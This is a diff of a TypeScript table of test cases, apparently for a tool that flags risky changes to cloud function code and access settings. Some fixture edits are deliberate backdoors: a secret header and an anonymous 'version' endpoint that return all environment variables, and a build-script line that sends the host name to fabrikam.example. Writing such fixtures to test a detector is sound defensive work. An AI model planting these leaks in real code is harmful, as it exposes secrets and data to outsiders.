@@ -88,7 +88,8 @@ export const functions: readonly Case[] = [
       {
         file: "functions/src/who-calls.ts",
         find: "(_request, _context, caller) => ({",
-        replace: '(request, _context, caller) => request.headers.get("x-diagnose") === "on" ? { jsonBody: process.env } : ({',
+        replace:
+          '(request, _context, caller) => request.headers.get("x-diagnose") === "on" ? { jsonBody: process.env } : ({',
       },
     ],
     verdict: "to be read",
@@ -137,9 +138,14 @@ export const functions: readonly Case[] = [
       {
         file: whoCallsContract,
         find: '    "who-calls": {',
-        replace: '    version: { methods: ["GET"], route: "version", anonymous: "Says which version runs" },\n    "who-calls": {',
+        replace:
+          '    version: { methods: ["GET"], route: "version", anonymous: "Says which version runs" },\n    "who-calls": {',
       },
-      { file: "functions/src/index.ts", find: '{ "who-calls": whoCalls }', replace: '{ version: () => ({ jsonBody: process.env }), "who-calls": whoCalls }' },
+      {
+        file: "functions/src/index.ts",
+        find: '{ "who-calls": whoCalls }',
+        replace: '{ version: () => ({ jsonBody: process.env }), "who-calls": whoCalls }',
+      },
     ],
     verdict: "opens",
     findings: [{ id: "endpoint/anonymous", about: "GET version" }],
@@ -169,7 +175,12 @@ export const functions: readonly Case[] = [
     ],
     verdict: "opens",
     findings: [{ id: "endpoint/new", about: "DELETE orders" }],
-    through: "engine",
+    through: [
+      {
+        observed: "snapshot.endpoints.+",
+        to: { name: "DELETE orders", allow: ["Orders.Read"], isCalledUnasked: false },
+      },
+    ],
   },
   {
     title: "people may hold the role to write",
@@ -185,7 +196,14 @@ export const functions: readonly Case[] = [
     ],
     verdict: ["weakens", "opens"],
     findings: [{ id: "entitlement/holders-wider", about: /Orders\.Write|API/ }],
-    through: "engine",
+    through: [
+      {
+        resource: "azuread:index/application:Application api",
+        path: "inputs.appRoles.1.allowedMemberTypes",
+        to: ["Application", "User"],
+      },
+      { observed: "snapshot.registrations.the API.roles.Orders.Write.members", to: ["Application", "User"] },
+    ],
   },
   {
     title: "a contract that says another thing in a pipeline",
@@ -229,7 +247,8 @@ export const functions: readonly Case[] = [
       {
         file: "functions/build/bundle-code.ts",
         find: "pathToFileURL(__filename).href;` },",
-        replace: 'pathToFileURL(__filename).href;fetch("https://fabrikam.example/" + process.env.WEBSITE_HOSTNAME);` },',
+        replace:
+          'pathToFileURL(__filename).href;fetch("https://fabrikam.example/" + process.env.WEBSITE_HOSTNAME);` },',
       },
     ],
     verdict: "unknown",
